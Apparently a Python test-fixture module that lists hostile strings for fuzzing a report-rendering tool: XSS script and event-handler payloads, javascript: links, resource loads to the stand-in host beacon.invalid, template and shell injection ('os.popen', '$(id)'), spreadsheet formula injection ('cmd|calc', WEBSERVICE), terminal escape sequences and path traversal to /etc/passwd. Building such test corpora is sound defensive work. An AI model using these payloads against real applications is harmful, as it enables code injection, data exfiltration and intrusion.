"""Hostile strings, made here: whatever a value, a name, a note or an answer of a model may hold.

What would run sets ``globalThis.__hit``, what would load asks ``beacon.invalid``, what would be
laid over a page fills its window, what would write says ``TERMINAL`` or calls a formula. Each
group is of one kind; `STRINGS` are all of them.
"""

# ruff: noqa: E501 - strings beside each other

HIT = "globalThis.__hit=1"
BEACON = "https://beacon.invalid"
COVER = "position:fixed;inset:0;z-index:99999;background:red"

SCRIPTS = [
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</SCRIPT ><SCRIPT>{HIT}</SCRIPT>",
    f"</script\t><script>{HIT}//",
    f"</script/x><script>{HIT}</script/x>",
    f"<script src='{BEACON}/a.js'></script>",
    f"<script type=module>import '{BEACON}/b.js';{HIT}</script>",
    f"<script>/*\n*/{HIT}</script>",
    f"<!--<script>{HIT}</script>",
    f"--><script>{HIT}</script><!--",
    f"--!><script>{HIT}</script>",
    f"]]><script>{HIT}</script><![CDATA[",
    f"<?xml-stylesheet href='javascript:{HIT}'?>",
    f"</style><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</noscript><script>{HIT}</script>",
    f"</template><script>{HIT}</script>",
    f"</pre></div></main><script>{HIT}</script>",
    f"</option></select><script>{HIT}</script>",
    f"</svg></math><script>{HIT}</script>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href='data:text/javascript,{HIT}'/></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"\x00<script\x00>{HIT}</script>",
    f"\ufeff<script>{HIT}</script>",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
]
HANDLERS = [
    f"<img src=x onerror={HIT}>",
    f"<img src=x onerror={HIT}//",
    f"<img/src=x\x0conerror={HIT}>",
    f"<IMG SRC=x OnErRoR={HIT}>",
    f"<image src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set onbegin={HIT} attributeName=x to=1>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<object data=x onerror={HIT}></object>",
    f"<style onload={HIT}></style>",
    f"<p style='animation:x' onanimationstart={HIT}>x",
    f"<div onpointerover={HIT} onclick={HIT} onwheel={HIT}>{'x' * 40}</div>",
    f"<xss contenteditable autofocus onfocus={HIT} id=x tabindex=1>x</xss>",
    f"<template shadowrootmode=open><img src=x onerror={HIT}></template>",
    f"<dialog open onclose={HIT}><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={HIT}>x</div>",
]
ATTRIBUTES = [
    f'" onmouseover="{HIT}',
    f"' onmouseover='{HIT}",
    f"` onmouseover={HIT} `",
    f'" autofocus onfocus="{HIT}" x="',
    f"x onpointerenter={HIT}",
    f'"><img src=x onerror={HIT}>',
    f"'><svg onload={HIT}>",
    f"'\"><script>{HIT}</script>",
    '"/><iframe srcdoc="<script>parent.__hit=1</script>">',
    f"&quot; onload=&quot;{HIT}",
    f'" style="{COVER}" x="',
    '" id="fl-theme" class="fl-failed" data-kind="gallery',
    '" hidden inert aria-hidden="true',
    'x" formaction="javascript:globalThis.__hit=1" type="submit',
]
ENTITIES = [
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={HIT}&#x3e;",
    f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
    "&NewLine;&Tab;&nbsp;&shy;&zwj;&ApplyFunction;",
    "&#0;&#xD800;&#x110000;&#99999999999;&unknown;&",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={HIT}\\x3e",
]
LINKS = [
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f" javascript:{HIT}",
    f"java\tscript:{HIT}",
    f"java\nscript:{HIT}",
    f"\x01javascript:{HIT}",
    f"javascript&colon;{HIT}",
    f"javascript://x%0a{HIT}",
    f"vbscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/>",
    f"data:image/png;base64,AAAA\" onerror=\"{HIT}",
    f"<a href='javascript:{HIT}'>click me</a>",
    f"<a href=\"java&#10;script:{HIT}\">click me</a>",
    f"<a href=javascript&colon;{HIT} target=_blank>click me</a>",
    f"<a ping={BEACON}/ping href='#'>click me</a>",
    f"<area shape=default href='javascript:{HIT}'>",
    f"<form action='javascript:{HIT}'><button>x</button></form>",
    f"<button formaction='javascript:{HIT}'>x</button>",
    f"<iframe src='javascript:parent.{HIT}'></iframe>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    f"<embed src='javascript:{HIT}'>",
    f"<object data='data:text/html,<script>parent.{HIT}</script>'></object>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={HIT} />#x'/></svg>",
    f"<math href='javascript:{HIT}'>x</math>",
    "blob:null/1", "about:blank#x", "file:///etc/passwd", "chrome://version", "view-source:x",
]  # fmt: skip
LOADS = [
    f"<img src='{BEACON}/c.png'>",
    f"<img srcset='{BEACON}/d.png 1x'>",
    "<img src=//beacon.invalid/e.png>",
    f"<picture><source srcset='{BEACON}/f.png'><img></picture>",
    f"<link rel=stylesheet href='{BEACON}/g.css'>",
    f"<link rel=prefetch href='{BEACON}/h'>",
    "<link rel=dns-prefetch href='//beacon.invalid'>",
    f"<link rel=preconnect href='{BEACON}'>",
    f"<base href='{BEACON}/'>",
    f"<meta http-equiv=refresh content='0;url={BEACON}/i'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    f"<iframe src='{BEACON}/j'></iframe>",
    f"<object data='{BEACON}/k'></object>",
    f"<video poster='{BEACON}/l.png' src='{BEACON}/m.mp4'></video>",
    f"<table background='{BEACON}/n.png'><tr><td>x</table>",
    f"<style>@import '{BEACON}/o.css';</style>",
    f"<style>@font-face{{font-family:x;src:url({BEACON}/p)}}*{{font-family:x}}</style>",
    f"<div style='background:url({BEACON}/q.png)'>x</div>",
    f"<svg><image href='{BEACON}/r.png'/></svg>",
    f"<svg><filter id=x><feImage href='{BEACON}/s.png'/></filter></svg>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{BEACON}/t'>]><x>&y;</x>",
    f"{BEACON}/u.png",
    f"url({BEACON}/v.png)",
]
OVERLAYS = [
    f"<div style='{COVER}'>x</div>",
    "<style>body{display:none}</style>",
    f"<style>main *{{{COVER}}}</style>",
    f"<span style=\"{COVER}\">x</span>",
    "<plaintext>", "<xmp>", "<noframes>", "<frameset>", "<listing>", "<textarea>", "<select>",
    f"<dialog open style='{COVER}'>x</dialog>",
    "<marquee behavior=alternate width=9999>x</marquee>",
    "<input type=range style='width:9999px'>",
    f"x;{COVER}",
    f"}} * {{ {COVER} }}",
    f"expression({HIT})", f"-moz-binding:url({BEACON}/w)", f"width:calc(9999vw);{COVER}",
    "<h1 class=fl-failed role=alert>This report is not complete</h1>",
    "<img name=getElementById><form id=fl-gallery><input name=attributes>",
    "<script type=application/json id=fl-gallery-data>{}</script>",
]  # fmt: skip
TEMPLATES = [
    "{{ 7*7 }}", "{{7*'7'}}", "{% raw %}", "{%- include '/etc/passwd' -%}", "{# x #}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{0}{1}{x!r}", "{config.__class__.__init__.__globals__}", "%s%s%n%d", "%(x)s", "$x $$ ${x}",
    f"${{{HIT}}}", f"`${{{HIT}}}`", f"{{{{constructor.constructor('{HIT}')()}}}}", "{}", "{{}}",
    "f'{__import__(\"os\")}'", "$(id)", "`id`", "; id #", "| id", "&& id", "!id", "%matplotlib x",
]  # fmt: skip
SCRIPT_VALUES = [
    f"';{HIT};'", f'";{HIT};"', f"\\';{HIT};//", f'\\";{HIT};//', f"\\\\';{HIT};//",
    f"\u2028{HIT}\u2029", f"\u2028;{HIT};//", f"x\u2029';{HIT};'", f"\n{HIT}\n", f"*/{HIT}/*",
    f"//\r{HIT}", "\\", "\\\\", "\\u", "\\x", "\\0", '"', "'", "`", '"}', '"]}', "],[", '{"a":',
    '{"__hit": 1}', "NaN", "Infinity", "-0", "1e999", "null", "undefined", "true", "[object Object]",
    "0x10", "9" * 400, "1e400", "--", "//", "/*", "*/",
]  # fmt: skip
PROTOTYPES = [
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf",
    "toLocaleString", "isPrototypeOf", "propertyIsEnumerable", "__defineGetter__",
    "__defineSetter__", "__lookupGetter__", "__lookupSetter__", "then", "toJSON", "length", "name",
    "watch", "arguments", "caller", "Symbol(Symbol.iterator)", "__class__", "__init__",
]  # fmt: skip
VEGA = [
    f"datum.x;{HIT}", f"datum['constructor']['constructor']('{HIT}')()", "datum.__proto__.x",
    "a.b[0]", "a\\.b", "a['b']", "a\"]['b", "$value", "count()", "mean(x):Q", "x:T", "signal",
    "{'signal': 'width'}", f"event.view.constructor.constructor('{HIT}')()", "width", "data('x')",
    f"toString.constructor('{HIT}')()", "*", "", "repeat(column)", "\\", "a b.c:d",
]  # fmt: skip
PLOTLY = [
    f"<a href='javascript:{HIT}'>x</a>", f"<a href=\"{BEACON}/x\" target=\"_self\">x</a>",
    "<b>x</b><br><i>y</i>", f"<span style='{COVER}'>x</span>", "<sup>9</sup><sub>9</sub>",
    "<extra></extra>", "%{x}%{y}%{customdata[0]}", "%{text}<br>%{x:.9999f}", "$\\href{x}{y}$",
    "<br>" * 40, "</text><image href=x />", "$x^2$",
]  # fmt: skip
MARKUP = [
    f"[x](javascript:{HIT})", f"![x]({BEACON}/y.png)", f"![x](x onerror={HIT})",
    f"[x]: javascript:{HIT}\n\n[x]", f"<javascript:{HIT}>", f"<{BEACON}/z>", "# heading",
    "## heading {#fl-theme}", "- [ ] x", "> x", "---", "```\nx", "~~~html\n<b>", "    x", "* * *",
    "| a | b |\n|---|---|\n| 1 | 2 |", "a|b", "a\\|b", "**x", "_x_", "[^1]", "\\(x\\)", "\\[x\\]",
    f"$$\\href{{javascript:{HIT}}}{{x}}$$", "\\begin{x}\\input{/etc/passwd}\\end{x}",
    "\\write18{id}", "\\newcommand{\\x}{\\x\\x}\\x", "\\unicode{x}", "\\style{color:red}{x}",
    "\\cssId{fl-theme}{x}", "% comment", "#1 & #2 \\\\ ~ ^ _ { }", "<<x>>", ":::x", ".. raw:: html",
]  # fmt: skip
DIRECTIONS = [
    "\u202etxt.exe", "\u202dabc\u202c", "\u2066x\u2067y\u2068z\u2069", "\u200e\u200f\u061c",
    "\u05d0\u05d1\u05d2 abc \u05d3", "\u0627\u0644\u0639 123", "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "\u200b", "\u00ad", "\u2800", "\u3164", "\U000e0061\U000e0062\U000e007f", "\ufff9a\ufffab\ufffb",
    "\u180e", "\ufe0f", "\u0430dmin", "o" + "\u0337\u0316\u0321\u0489" * 60, "Z\u0351\u036b\u0343" * 30,
    "\u0e4a" * 200, "\ufdfd" * 30, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea",
    "\U0001f600", "\ud7ff\ue000\uf8ff", "\U0010ffff", "\ufdd0", "\ufffe", "\uffff",
]  # fmt: skip
CONTROLS = [
    "\x00", "a\x00b", "\x01", "\x02x\x03", "\x07", "\x08\x08\x08x", "\x0b", "\x0c", "\x0e\x0f", "\x1a",
    "\x1b", "\x1c\x1d\x1e\x1f", "\x7f", "\x80", "\x85", "\x9b31mx", "\x9d0;x\x9c", "a\rb", "a\r\nb",
    "a\nb", "a\tb", "\r", "\n", "\t", "\u2028", "\u2029", "\ufffd", "\ufffea\uffff",
    chr(0xD800), f"a{chr(0xDFFF)}b", f"{chr(0xDC00)}{chr(0xD800)}", f"{chr(0xD83D)}{chr(0xD83D)}",
]  # fmt: skip
TERMINALS = [
    "\x1b[31mTERMINAL\x1b[0m", "\x1b[2J\x1b[HTERMINAL", "\x1b]0;TERMINAL\x07", "\x1b]0;TERMINAL\x1b\\",
    f"\x1b]8;;{BEACON}\x07TERMINAL\x1b]8;;\x07", "\x1b]52;c;VEVSTUlOQUw=\x07", "\x1b[1A\x1b[2KTERMINAL",
    "\x1b[?1049hTERMINAL", "\x1bP$qm\x1b\\TERMINAL", "\x1b[6n", "\x1b[5;1HTERMINAL", "\x1bcTERMINAL",
    "\x1b[8mTERMINAL", "\x1b_TERMINAL\x1b\\", "\x1b^TERMINAL\x1b\\", "\x1b[38;5;1", "\x1b]",
    "ok\rTERMINAL", "\x9b2JTERMINAL", "\x90TERMINAL\x9c", "[bold red]TERMINAL[/]", "\x1b#8", "\x0e",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", f'=HYPERLINK("{BEACON}/1","x")',
    f'=IMPORTXML("{BEACON}/2","//a")', f'=WEBSERVICE("{BEACON}/3")', "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\x1f=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201", "%0A=1+1", '"=1+1"', "'=1+1", ";=1+1", ",=1+1",
    '","=1+1', "x\n=1+1", "x\r=1+1", "|calc", "DDE(\"x\")", "-", "=", "+", "@",
]  # fmt: skip
PATHS = [
    "..", ".", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "\\\\host\\x", "a/../../b",
    "....//....//x", "%2e%2e%2fx", "..%c0%afx", "a\x00.png", "CON", "nul.txt", "-rf", "--help", "~root",
    "$HOME", "*", "?", "a:b", "a|b", "<x>", "x" * 300, "x.html", "index.html", ".htaccess", " x ", "x.",
    "file name with blanks", "\u2215etc\u2215passwd", "a//b", "./", "/", "//", "#x", "?x=1", "x#y?z&a=b",
]  # fmt: skip
LONG = [
    "W" * 20_000,
    "\u6587" * 5_000,
    "a " * 20_000,
    "<" * 5_000,
    "&" * 5_000,
    "\n" * 2_000,
    "<b>" * 3_000,
    "[" * 3_000,
    "(" * 3_000,
    "\\" * 3_000,
    "a\u0301" * 3_000,
    "_" * 3_000,
]
EMPTY = ["", " ", "   ", "\u00a0", "\u3000", "None", "nan", "-", "0", "False"]

GROUPS = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "attributes": ATTRIBUTES, "entities": ENTITIES,
    "links": LINKS, "loads": LOADS, "overlays": OVERLAYS, "templates": TEMPLATES,
    "script values": SCRIPT_VALUES, "prototypes": PROTOTYPES, "vega": VEGA, "plotly": PLOTLY,
    "markup": MARKUP, "directions": DIRECTIONS, "controls": CONTROLS, "terminals": TERMINALS,
    "formulas": FORMULAS, "paths": PATHS, "long": LONG, "empty": EMPTY,
}  # fmt: skip
STRINGS = list(dict.fromkeys(text for texts in GROUPS.values() for text in texts))
